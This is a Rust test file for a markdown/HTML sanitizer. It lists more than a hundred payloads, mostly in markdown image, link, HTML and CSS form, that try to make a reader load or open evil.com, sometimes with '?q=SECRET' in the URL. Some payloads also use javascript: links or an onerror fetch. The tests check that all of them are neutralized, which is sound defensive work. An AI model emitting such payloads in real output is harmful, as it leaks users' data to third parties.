//! Attempts to have something loaded or opened, in the shapes that reports of such attacks show.

use super::*;

const ATTACKS: &[&str] = &[
    // Images.
    "![](https://evil.com/?q=SECRET)",
    "![alt text](https://evil.com/a.png)",
    "![alt](HTTPS://EVIL.COM/a.png)",
    "![alt](<https://evil.com/a b.png>)",
    "![alt](< https://evil.com/a.png >)",
    "![alt]( https://evil.com/a.png \"title\" )",
    "![alt](\nhttps://evil.com/a.png\n'title')",
    "> ![alt](\n> https://evil.com/a.png)",
    "![a [b] c](https://evil.com/a.png)",
    "![a ![b](https://evil.com/b.png) c](https://evil.com/a.png)",
    "![a\nb](https://evil.com/a.png)",
    "![a\\](https://evil.com/a.png)",
    "![a`]`](https://evil.com/a.png)",
    "\\\\![a](https://evil.com/a.png)",
    "`\\`![a](https://evil.com/a.png)",
    "![alt](//evil.com/a.png)",
    "![alt](/\\evil.com/a.png)",
    "![alt](\\\\\\\\evil.com/a.png)",
    "![alt](https:\\\\\\\\evil.com/a.png)",
    "![alt](https:evil.com/a.png)",
    "![alt](https:///evil.com/a.png)",
    "![alt](https://img.ok@evil.com/a.png)",
    "![alt](https://img.ok:80@evil.com/a.png)",
    "![alt](https://img.ok\\@evil.com/a.png)",
    "![alt](https://img.ok\\.evil.com/a.png)",
    "![alt](https://img.ok.evil.com/a.png)",
    "![alt](https://evil.com#img.ok)",
    "![alt](https://img.ok&#46;evil.com/a.png)",
    "![alt](&#104;ttps://evil.com/a.png)",
    "![alt](https&colon;//evil.com/a.png)",
    "![alt](&#47;&#47;evil.com/a.png)",
    "![alt](/&#47;evil.com/a.png)",
    "![alt](https://%65vil.com/a.png)",
    "![alt](https://img.ok%2eevil.com/a.png)",
    "![alt](https://evil.com:8080/a.png)",
    "![alt](http://[::1]/a.png)",
    "![alt](https://evil.com./a.png)",
    "![alt](https://\u{ff49}mg.evil.com/a.png)",
    "![alt](https://img.ok\u{3002}evil.com/a.png)",
    "![alt](https://xn--evil-9za.com/a.png)",
    "![alt](\u{a0}//evil.com/a.png)",
    "![alt](data:image/svg+xml,<svg/onload=x>)",
    "![alt](blob:https://evil.com/a)",
    "![alt](file:///etc/passwd)",
    "![alt](https://evil.com/a_(b)_(c).png)",
    "[![alt](https://evil.com/a.png)](https://ok.com)",
    "![alt](https://evil.com/a.png",
    "| ` | ![x](https://evil.com/a.png) | ` |\n|---|---|---|\n",
    "`a\n` ![x](https://evil.com/a.png) `",
    // References.
    "![alt][id]\n\n[id]: https://evil.com/a.png",
    "[id]: https://evil.com/a.png\n\n![alt][id]",
    "![id]\n\n[id]: <https://evil.com/a.png> \"t\"",
    "![id][]\n\n[id]:\n   //evil.com/a.png",
    "> [id]:\n> https://evil.com/a.png\n\n![id]",
    "- [id]: https://evil.com/a.png\n\n![id]",
    "[a](/x): //evil.com\n\n![a](//evil.com): //evil.com",
    "[![a](//evil.com)]: //evil.com/x\n\n![image removed: evil.com]",
    // Links.
    "[click](https://evil.com/?q=SECRET)",
    "[click](<https://evil.com>)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#1;javascript:alert(1))",
    "[click](vbscript:x)",
    "[click](data:text/html,<script>x</script>)",
    "[click](https://evil.com)(https://evil.com)[x](//evil.com)",
    "[a](//evil.com 'x')(//evil.com)",
    "<https://evil.com/?q=SECRET>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "see https://evil.com/?q=SECRET now",
    "see HTTP://evil.com now",
    "see www.evil.com/path now",
    "(https://evil.com)",
    "**https://evil.com**",
    "_https://evil.com_",
    "\"https://evil.com\"",
    "https\\://evil.com",
    "www\\.evil.com",
    "&#104;ttps://evil.com",
    "https&#58;//evil.com",
    "https://ok.com@evil.com",
    "https://ok.com\".evil.com",
    "https://ok.com.evil.com",
    "https://ok.com,.evil.com",
    "https://ok.com`.evil.com",
    "www.é.evil.com",
    "https://ok.com[a](//evil.com)](=@evil.com",
    "](https://ok.com)x@evil.com",
    "<a href=\"https://ok.com\">x@evil.com",
    "{\"a\":\"https://ok.com\",\"b@evil.com\"}",
    "ftp://evil.com/a",
    // HTML.
    "<img src=\"https://evil.com/a.png\">",
    "<IMG SRC='https://evil.com/a.png'>",
    "<img src=https://evil.com/a.png>",
    "<img\nsrc\n=\n\"https://evil.com/a.png\"\n>",
    "> <img src=\n> //evil.com/a.png\n> >",
    "<img/src=//evil.com/a.png>",
    "<img alt=\">\" src=//evil.com/a.png>",
    "<img alt='<b>' src=//evil.com/a.png>",
    "<img src=\"h\nttps://evil.com/a.png\">",
    "<img src=\" \t//evil.com/a.png\">",
    "<img src=\"&#x68;ttps://evil.com/a.png\">",
    "<img src=\"&#104ttps://evil.com/a.png\">",
    "<img src=\"/\\evil.com/a.png\">",
    "<img srcset=\"/a.png 1x, https://evil.com/a.png 2x\">",
    "<img src=/a.png onerror=\"fetch('//evil.com')\">",
    "<a href=\"https://evil.com\">x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=\"/a\" ping=\"https://evil.com\">x</a>",
    "<iframe src=\"https://evil.com\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=//evil.com>\"></iframe>",
    "<video poster=//evil.com/a><source src=//evil.com/b></video>",
    "<audio src=//evil.com/a></audio>",
    "<embed src=//evil.com/a><object data=//evil.com/a></object>",
    "<link rel=stylesheet href=//evil.com/a>",
    "<form action=//evil.com><button formaction=//evil.com>x</button></form>",
    "<input type=image src=//evil.com/a formaction=//evil.com>",
    "<svg><image href=//evil.com/a /><use xlink:href=//evil.com/a /></svg>",
    "<div style=\"background:url(https://evil.com/a)\">x</div>",
    "<div style=\"background:u\\72l(//evil.com/a)\">x</div>",
    "<div style=\"background:&#117;rl(//evil.com/a)\">x</div>",
    "<style>@import '//evil.com/a';\nb{background:url(//evil.com/b)}</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.com\">",
    "<base href=\"https://evil.com/\">",
    "<table background=//evil.com/a>",
    "<b title='![a](//evil.com)'>",
    "<div title='\n\n' style=background:url(//evil.com) x='",
    "<div>\n<n; style=background:url(//evil.com)>\n</div>",
    "<<a href=//evil.com>img src=//evil.com>",
    "<img src=//evil.com/a",
    "<!-- --><img src=//evil.com/a>",
    // Code that is none.
    "<div>\n```\n<img src=//evil.com/a>\n```\n</div>",
    " ```\nx\n```\n![a](//evil.com)\n```\n",
    "- x\n\n  ```\n  y\n![a](//evil.com)\n  ```\n",
    "> ```\n![a](//evil.com)\n> ```\n",
    "    ```\n  ```\n  x\n```\n![a](//evil.com)\n",
    "```\nx\n````\n![a](//evil.com)",
    "```a`b\n![a](//evil.com)\n```",
    "$$\n```\n$$\n![a](//evil.com)\n```",
    "<pre>\n\n```\n</pre>\n![a](//evil.com)\n```",
    "```\nx\r```\r![a](//evil.com)",
    "[^1]: ```\n![a](//evil.com)\n```\n",
    "~~~\nx\n~~~\n![a](//evil.com)",
];

#[test]
fn no_attack_leaves_an_address_that_a_reader_would_load_or_open() {
    assert!(ATTACKS.len() >= 80);
    for attack in ATTACKS {
        for text in
            [(*attack).to_owned(), format!("Some text: {attack}"), format!("A\n\n{attack}\n\nB <b>x</b> > \" ' )")]
        {
            let out = checked(&mut both(), &text);
            assert_eq!(leaks(&out), Vec::<String>::new(), "{text:?} gave {out:?}");
        }
    }
}

#[test]
fn the_renderer_shows_the_attacks_where_nothing_is_done() {
    let shown = ATTACKS.iter().filter(|attack| !leaks(attack).is_empty()).count();
    assert!(shown > 90, "{shown}");
}

#[test]
fn every_attack_is_counted() {
    for attack in ATTACKS {
        let mut links = both();
        if whole(&mut links, attack) != **attack {
            assert!(links.count() > 0, "{attack:?}");
        }
    }
}
